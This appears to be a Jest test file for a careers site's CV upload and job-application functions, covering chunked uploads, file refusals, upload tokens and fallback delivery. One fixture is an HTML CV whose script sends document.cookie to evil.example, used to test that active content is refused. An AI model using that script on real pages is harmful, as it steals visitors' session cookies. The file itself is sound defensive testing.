import { mkdtemp, readdir, readFile, rm } from "node:fs/promises"
import { tmpdir } from "node:os"
import path from "node:path"
import { base64Size, CV_MAX_BYTES, FUNCTION_REQUEST_LIMIT_BYTES } from "../../src/domain/careers/cv"
import { jobCountryFor } from "../../src/domain/careers/job-country"
import { APPLICATION_FILES_STORE } from "../lib/applications/file-store"
import { confirmationMailId, fallbackMailId } from "../lib/applications/records"
import { UPLOAD_TOKEN_MAX_AGE_MS } from "../lib/applications/upload-token"
import { MAX_UPLOADS_PER_VISITOR } from "../lib/applications/uploads"
import { clearMaintenanceLocationCache } from "../lib/forms/maintenance-locations"
import { Outbox } from "../lib/outbox/outbox"
import { STORE_NAMES } from "../lib/stores"
import { useLocalBlobs } from "../test-support/blobs"
import { docxFile, executableFile, pdfOfSize } from "../test-support/documents"
import { openedFormToken } from "../test-support/form-start"
import { postJson, testContext } from "../test-support/requests"
import { parseEml } from "../test-support/eml"
import { startStandIn, type StandIn } from "../test-support/stand-in"
import uploadChunk from "../functions/cv-upload-chunk.mts"
import uploadComplete from "../functions/cv-upload-complete.mts"
import uploadStart from "../functions/cv-uploads.mts"
import outboxRetry from "../functions/outbox-retry.mts"
import sendApplication from "../functions/send-application.mts"
import sendMail from "../functions/send-mail.mts"
import { restoreEnvironmentAfterEach } from "../test-support/environment"

jest.setTimeout(30_000)

const ORIGIN = "http://localhost"
const KEY = "6b1f4f4e-7d1c-4b0e-9a53-2f1c9d0e8a77"

const blobs = useLocalBlobs()
let recruiting: StandIn
let sinkDirectory: string
restoreEnvironmentAfterEach()

beforeEach(async () => {
  recruiting = await startStandIn()
  sinkDirectory = await mkdtemp(path.join(tmpdir(), "application-sink-"))
  process.env.APPLICATION_SINK_DIR = sinkDirectory
  process.env.RECRUITING_SOAP_URL = `${recruiting.url}/ccx/service/fleetlane/Recruiting`
  clearMaintenanceLocationCache()
})

afterEach(async () => {
  await recruiting.close()
  await rm(sinkDirectory, { recursive: true, force: true })
})

/**
 * Netlify caps a function request at 6 MB, and a binary body travels base64-encoded: every
 * request of these tests passes through this check, as it would through the platform.
 */
async function viaPlatform(request: Request): Promise<Request> {
  const body = await request.clone().arrayBuffer()
  const encoded = base64Size(body.byteLength)
  if (encoded > FUNCTION_REQUEST_LIMIT_BYTES) throw new Error(`A ${encoded}-byte request would be refused by the platform`)
  return request
}

async function call(handler: (request: Request, context: never) => Promise<Response>, request: Request) {
  const { context, settled } = testContext()
  const response = await handler(await viaPlatform(request), context as never)
  await settled()
  return { status: response.status, body: (await response.json()) as Record<string, unknown> }
}

/** The token of the form page the applicant opened (GET /api/form-start); uploads carry it. */
const TOKEN = openedFormToken()

/** What the browser does with a chosen file: start, send the chunks, complete. */
async function uploadFile(name: string, content: Buffer, token = TOKEN) {
  const started = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name, size: content.length }, { "Upload-Token": token }))
  if (started.status !== 201) return started
  const { uploadId, chunkBytes, chunkCount } = started.body as { uploadId: string; chunkBytes: number; chunkCount: number }
  for (let index = 0; index < chunkCount; index++) {
    const chunk = content.subarray(index * chunkBytes, (index + 1) * chunkBytes)
    const put = await call(
      uploadChunk,
      new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/chunks/${index}`, {
        method: "PUT",
        headers: { "Content-Type": "application/octet-stream", "Upload-Token": token },
        body: new Uint8Array(chunk),
      }),
    )
    expect(put).toEqual({ status: 200, body: { received: chunk.length } })
  }
  return call(
    uploadComplete,
    new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/complete`, { method: "POST", headers: { "Upload-Token": token } }),
  )
}

function envelope(formId: string, locale: string, values: Record<string, unknown>) {
  return {
    formId,
    locale,
    values,
    context: { pageUri: `https://www.fleetlane.example/${locale}/apply/`, pageName: "Apply" },
  }
}

const person = {
  first_name: "Anne-Marie",
  last_name: "O'Neill & Zonen",
  email: "anne@example.nl",
  phoneCode: "NL",
  phone: "612345678",
  reference: "LINKEDIN",
  privacy: true,
}

function vacancyApplication(fileId: string, name = "cv.pdf", size = CV_MAX_BYTES) {
  return envelope("job_application_vacancy", "nl", { ...person, jobRequisitionId: "JR-10262", fileList: [{ fileId, name, size }] })
}

const outbox = () => new Outbox(blobs.store(STORE_NAMES.outbox))

describe("a CV of exactly 5,242,880 bytes", () => {
  it("goes in chunks under the platform's cap and reaches the recruiting system byte for byte", async () => {
    const pdf = pdfOfSize(CV_MAX_BYTES)
    // One request could not carry it.
    await expect(viaPlatform(new Request(`${ORIGIN}/`, { method: "PUT", body: new Uint8Array(pdf) }))).rejects.toThrow(
      "refused by the platform",
    )

    const uploaded = await uploadFile("Mijn cv.pdf", pdf)
    expect(uploaded).toEqual({ status: 200, body: { fileId: expect.any(String), size: CV_MAX_BYTES } })
    recruiting.respond("/ccx/", { status: 200, body: "<env:Envelope/>" })

    const sent = await call(
      sendApplication,
      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId)), { "Idempotency-Key": KEY }),
    )
    expect(sent).toEqual({ status: 200, body: { status: "delivered", id: KEY } })

    expect(recruiting.requests).toHaveLength(1)
    const soap = recruiting.requests[0].body
    expect(recruiting.requests[0].headers["content-type"]).toBe("text/xml; charset=utf-8")
    // Sliced rather than matched: a regular expression over 7 MB of base64 overflows V8's stack.
    const start = soap.indexOf("<wd:File>") + "<wd:File>".length
    const file = soap.slice(start, soap.indexOf("</wd:File>", start))
    expect(Buffer.from(file, "base64").equals(pdf)).toBe(true)
    expect(soap).toContain('wd:File_Name="application-6b1f4f4e-1.pdf"')
    expect(soap).not.toContain("Mijn cv")
    expect(soap).toContain("<wd:Last_Name>O'Neill &amp; Zonen</wd:Last_Name>")
    expect(soap).toContain('<wd:ID wd:type="Job_Requisition_ID">JR-10262</wd:ID>')
    expect(soap).toContain('<wd:ID wd:type="Recruiting_Stage_ID">REVIEW</wd:ID>')
    expect(soap).toContain("<wd:International_Phone_Code>31</wd:International_Phone_Code>")
    await expect(outbox().get(KEY)).resolves.toMatchObject({ status: "delivered", deliveredTo: "recruiting" })
  })
})

describe("files that are refused", () => {
  it("refuses a 5,242,881-byte PDF at once, with the size message", async () => {
    const refused = await uploadFile("cv.pdf", pdfOfSize(CV_MAX_BYTES + 1))
    expect(refused).toEqual({ status: 413, body: { error: "file_too_large", message: "FILE_SIZE" } })
    // Nor can an application claim such a size.
    const sent = await call(
      sendApplication,
      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(KEY, "cv.pdf", CV_MAX_BYTES + 1)),
    )
    expect(sent.status).toBe(400)
    expect(sent.body).toEqual({ error: "invalid_fields", fields: { "fileList[0]": "FILE_SIZE" } })
    expect(recruiting.requests).toHaveLength(0)
  })

  it("refuses a renamed executable with a clear message, and an application cannot use it", async () => {
    const refused = await uploadFile("cv.pdf", executableFile())
    expect(refused).toEqual({ status: 422, body: { error: "content_mismatch", message: "FILE_CONTENT" } })
    const disguisedWord = await uploadFile("cv.docx", executableFile())
    expect(disguisedWord.status).toBe(422)
    const started = await call(
      uploadStart,
      postJson(`${ORIGIN}/api/cv-uploads`, { name: "setup.exe", size: 1024 }, { "Upload-Token": TOKEN }),
    )
    expect(started).toEqual({ status: 415, body: { error: "unsupported_file_type", message: "FILE_TYPE" } })
  })

  it("checks the whole file: a PDF header followed by a program, and an HTML CV with a script, are refused (issue 19, point 12)", async () => {
    const disguised = Buffer.concat([Buffer.from("%PDF-1.7\n", "latin1"), executableFile(), Buffer.from("\n%%EOF\n", "latin1")])
    expect(await uploadFile("cv.pdf", disguised)).toEqual({ status: 422, body: { error: "content_mismatch", message: "FILE_CONTENT" } })
    const scripted = Buffer.from('<html><body><h1>CV</h1><script>location="https://evil.example/?"+document.cookie</script></body></html>')
    expect(await uploadFile("cv.html", scripted)).toEqual({
      status: 422,
      body: { error: "content_mismatch", message: "FILE_ACTIVE_CONTENT" },
    })
  })

  it("answers malformed requests with a 4xx", async () => {
    const chunk = await call(
      uploadChunk,
      new Request(`${ORIGIN}/api/cv-uploads/6b1f4f4e-7d1c-4b0e-9a53-2f1c9d0e8a77/chunks/0`, {
        method: "PUT",
        headers: { "Content-Type": "application/octet-stream", "Upload-Token": TOKEN },
        body: "x",
      }),
    )
    expect(chunk.status).toBe(404)
    const notJson = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, "{"))
    expect(notJson.status).toBe(400)
    const unknownForm = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, envelope("contact", "nl", person)))
    expect(unknownForm.status).toBe(400)
    const mail = await call(sendMail, postJson(`${ORIGIN}/api/send-mail`, { applicationId: KEY, to: "attacker@example.com" }))
    expect(mail).toEqual({ status: 400, body: { error: "unknown_fields", fields: ["to"] } })
  })
})

describe("uploads belong to an application in progress (issue 19, point 5)", () => {
  it("refuses an upload without the form page's token, with a forged one, or with one too old for uploads", async () => {
    const start = (headers: Record<string, string>) =>
      call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.pdf", size: 5_000_000 }, headers))
    expect(await start({})).toEqual({ status: 403, body: { error: "upload_token_missing", message: "FILE_NOT_UPLOADED" } })
    expect((await start({ "Upload-Token": `${TOKEN.slice(0, -4)}AAAA` })).body).toMatchObject({ error: "upload_token_invalid" })
    const old = openedFormToken(UPLOAD_TOKEN_MAX_AGE_MS + 60_000)
    expect((await start({ "Upload-Token": old })).body).toMatchObject({ error: "upload_token_expired" })
    await expect(blobs.store(APPLICATION_FILES_STORE).keys("uploads/")).resolves.toEqual([])
  })

  it("stops one visitor storing 5 MB files over and over: the files of an application, twice over", async () => {
    const big = pdfOfSize(CV_MAX_BYTES)
    const answers = []
    for (let index = 0; index <= MAX_UPLOADS_PER_VISITOR; index++) {
      answers.push(
        (await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.pdf", size: big.length }, { "Upload-Token": TOKEN })))
          .status,
      )
    }
    expect(answers).toEqual([...Array(MAX_UPLOADS_PER_VISITOR).fill(201), 429])
    const refused = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.pdf", size: 10 }, { "Upload-Token": TOKEN }))
    expect(refused).toEqual({ status: 429, body: { error: "upload_quota_exceeded", message: "FILE_QUOTA" } })
  })

  it("lets no other visitor add to or complete someone's upload", async () => {
    const started = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.txt", size: 5 }, { "Upload-Token": TOKEN }))
    const uploadId = String(started.body.uploadId)
    const other = openedFormToken()
    const chunk = await call(
      uploadChunk,
      new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/chunks/0`, {
        method: "PUT",
        headers: { "Content-Type": "application/octet-stream", "Upload-Token": other },
        body: "hello",
      }),
    )
    expect(chunk).toEqual({ status: 404, body: { error: "unknown_upload" } })
  })
})

describe("when the recruiting system fails", () => {
  it("answers 202, and the fallback mail carries the details and the CV", async () => {
    const uploaded = await uploadFile("cv.docx", docxFile())
    recruiting.respond("/ccx/", { status: 503, body: "<faultstring>Maintenance window</faultstring>" })
    const application = envelope("job_application", "de", {
      ...person,
      phoneCode: "DE",
      forMechanic: false,
      location: "",
      fileList: [{ fileId: uploaded.body.fileId, name: "cv.docx", size: docxFile().length }],
    })
    const sent = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, application, { "Idempotency-Key": KEY }))
    expect(sent).toEqual({ status: 202, body: { status: "queued", id: KEY } })
    const stored = await outbox().get(KEY)
    expect(stored).toMatchObject({ status: "pending", lastError: "Recruiting system answered 503: Maintenance window" })
    // The open application went to Germany's trainee requisition, from the job-country table.
    expect(stored?.upstream).toMatchObject({
      channel: "recruiting",
      application: { jobRequisitionId: jobCountryFor("de")!.traineeJobCode },
    })

    const mailed = await call(sendMail, postJson(`${ORIGIN}/api/send-mail`, { applicationId: KEY }))
    expect(mailed).toEqual({ status: 200, body: { status: "sent" } })
    const mail = parseEml(await readFile(path.join(sinkDirectory, "mail", `${fallbackMailId(KEY)}.eml`), "utf8"))
    expect(mail.headers.to).toBe("recruitment@fleetlane.example")
    // A recruiter's answer goes to the applicant (issue 19, point 18).
    expect(mail.headers["reply-to"]).toBe("anne@example.nl")
    expect(mail.headers.from).toBe("Fleetlane careers <careers-noreply@fleetlane.example>")
    expect(mail.headers.subject).toBe("Job application not delivered to the recruiting system (6b1f4f4e)")
    expect(mail.text).toContain("First name: Anne-Marie")
    expect(mail.text).toContain("Last name: O'Neill & Zonen")
    expect(mail.text).toContain("E-mail: anne@example.nl")
    expect(mail.text).toContain("Country code: +49 (DE)")
    expect(mail.text).toContain("Phone: 612345678")
    expect(mail.text).toContain("Delivery failure: Recruiting system answered 503: Maintenance window")
    expect(mail.attachments.map((attachment) => [attachment.filename, attachment.content.equals(docxFile())])).toEqual([
      ["application-6b1f4f4e-1.docx", true],
    ])
  })

  it("loses nothing when the mail fails too: both are retried and the files stay", async () => {
    const pdf = pdfOfSize(200_000)
    const uploaded = await uploadFile("cv.pdf", pdf)
    recruiting.respond("/ccx/", { status: 500, body: "<faultstring>Internal error</faultstring>" })
    process.env.SMTP_URL = "smtp://127.0.0.1:9"
    const errors = jest.spyOn(console, "error").mockImplementation(() => undefined)

    const sent = await call(
      sendApplication,
      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId), "cv.pdf", pdf.length), {
        "Idempotency-Key": KEY,
      }),
    )
    expect(sent.status).toBe(202)
    const mailed = await call(sendMail, postJson(`${ORIGIN}/api/send-mail`, { applicationId: KEY }))
    expect(mailed).toEqual({ status: 202, body: { status: "queued" } })
    expect(errors).toHaveBeenCalledWith("Failed to send email.", expect.stringContaining("Failed to send email."))
    errors.mockRestore()

    await expect(outbox().get(KEY)).resolves.toMatchObject({ status: "pending" })
    await expect(outbox().get(fallbackMailId(KEY))).resolves.toMatchObject({ status: "pending" })
    const files = await blobs.store(APPLICATION_FILES_STORE).keys("files/")
    expect(files).toEqual([`files/${uploaded.body.fileId}/content`, `files/${uploaded.body.fileId}/meta`])

    // Later both upstreams are back: the scheduled run delivers both.
    recruiting.respond("/ccx/", { status: 200, body: "<env:Envelope/>" })
    delete process.env.SMTP_URL
    const box = outbox()
    for (const id of [KEY, fallbackMailId(KEY)]) {
      const record = (await box.get(id))!
      await blobs.store(STORE_NAMES.outbox).put(`records/${id}`, { ...record, nextAttemptAt: new Date(0).toISOString() })
    }
    await outboxRetry()
    await expect(outbox().get(KEY)).resolves.toMatchObject({ status: "delivered", deliveredTo: "recruiting" })
    await expect(outbox().get(fallbackMailId(KEY))).resolves.toMatchObject({ status: "delivered", deliveredTo: "local-sink" })
    const soap = recruiting.requests.at(-1)!.body
    expect(Buffer.from(/<wd:File>([^<]+)</.exec(soap)![1], "base64").equals(pdf)).toBe(true)
  })
})

describe("the application endpoint", () => {
  it("takes the honeypot's word for a bot and stores nothing", async () => {
    const sent = await call(
      sendApplication,
      postJson(`${ORIGIN}/api/send-application`, { ...vacancyApplication(KEY), fax_number: "+31 20 123" }, { "Idempotency-Key": KEY }),
    )
    expect(sent).toEqual({ status: 200, body: { status: "delivered" } })
    await expect(outbox().get(KEY)).resolves.toBeNull()
  })

  it("validates again on the server and never takes a file it does not know", async () => {
    const invalid = await call(
      sendApplication,
      postJson(
        `${ORIGIN}/api/send-application`,
        envelope("job_application_vacancy", "nl", { ...person, phone: "+31612345678", fileList: [] }),
      ),
    )
    expect(invalid.body).toEqual({
      error: "invalid_fields",
      fields: { phone: "DIGITS", fileList: "FILE_REQUIRED", jobRequisitionId: "REQUIRED" },
    })
    const unknownFile = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, vacancyApplication(KEY, "cv.pdf", 1000)))
    expect(unknownFile).toEqual({ status: 400, body: { error: "invalid_fields", fields: { fileList: "FILE_NOT_UPLOADED" } } })
  })

  it("sends a file attached twice once (issue 19, point 15)", async () => {
    const pdf = pdfOfSize(4000)
    const uploaded = await uploadFile("cv.pdf", pdf)
    recruiting.respond("/ccx/", { status: 200, body: "<env:Envelope/>" })
    const fileId = String(uploaded.body.fileId)
    const twice = envelope("job_application_vacancy", "nl", {
      ...person,
      jobRequisitionId: "JR-10262",
      fileList: [
        { fileId, name: "cv.pdf", size: pdf.length },
        { fileId, name: "cv.pdf", size: pdf.length },
      ],
    })
    const sent = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, twice, { "Idempotency-Key": KEY }))
    expect(sent.status).toBe(200)
    expect(recruiting.requests[0].body.match(/<wd:File>/g)).toHaveLength(1)
    const stored = await outbox().get(KEY)
    expect(stored?.upstream).toMatchObject({ application: { files: [{ fileId }] } })
    expect((stored?.upstream as { application: { files: unknown[] } }).application.files).toHaveLength(1)
  })

  it("sends the applicant a confirmation in the page's language once the application is stored, once (issue 19, point 18)", async () => {
    delete process.env.RECRUITING_SOAP_URL
    const uploaded = await uploadFile("cv.pdf", pdfOfSize(5000))
    const request = () =>
      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId), "cv.pdf", 5000), {
        "Idempotency-Key": KEY,
      })
    expect((await call(sendApplication, request())).status).toBe(200)
    expect((await call(sendApplication, request())).status).toBe(200)
    expect(await readdir(path.join(sinkDirectory, "mail"))).toEqual([`${confirmationMailId(KEY)}.eml`])
    const mail = parseEml(await readFile(path.join(sinkDirectory, "mail", `${confirmationMailId(KEY)}.eml`), "utf8"))
    expect(mail.headers.to).toBe("anne@example.nl")
    expect(mail.headers.from).toBe("Fleetlane careers <careers-noreply@fleetlane.example>")
    expect(mail.headers.subject).toBe("We hebben je sollicitatie ontvangen")
    expect(mail.text).toContain("Beste Anne-Marie,")
    expect(mail.text).toContain("Je referentie: 6b1f4f4e")
    expect(mail.text).toContain("Ontvangen documenten: 1")
    expect(mail.attachments).toEqual([])
  })

  it("confirms to the applicant even when the recruiting system is down: the application is stored", async () => {
    const uploaded = await uploadFile("cv.pdf", pdfOfSize(5000))
    recruiting.respond("/ccx/", { status: 503, body: "<faultstring>Maintenance window</faultstring>" })
    const sent = await call(
      sendApplication,
      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId), "cv.pdf", 5000), {
        "Idempotency-Key": KEY,
      }),
    )
    expect(sent.status).toBe(202)
    await expect(outbox().get(confirmationMailId(KEY))).resolves.toMatchObject({ status: "delivered", deliveredTo: "local-sink" })
  })

  it("goes to the local sink without a recruiting system configured", async () => {
    delete process.env.RECRUITING_SOAP_URL
    const uploaded = await uploadFile("cv.pdf", pdfOfSize(5000))
    const sent = await call(
      sendApplication,
      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId), "cv.pdf", 5000), {
        "Idempotency-Key": KEY,
      }),
    )
    expect(sent.status).toBe(200)
    const xml = await readFile(path.join(sinkDirectory, "recruiting", `${KEY}.xml`), "utf8")
    expect(xml).toContain("<wd:Put_Candidate_Request")
  })
})
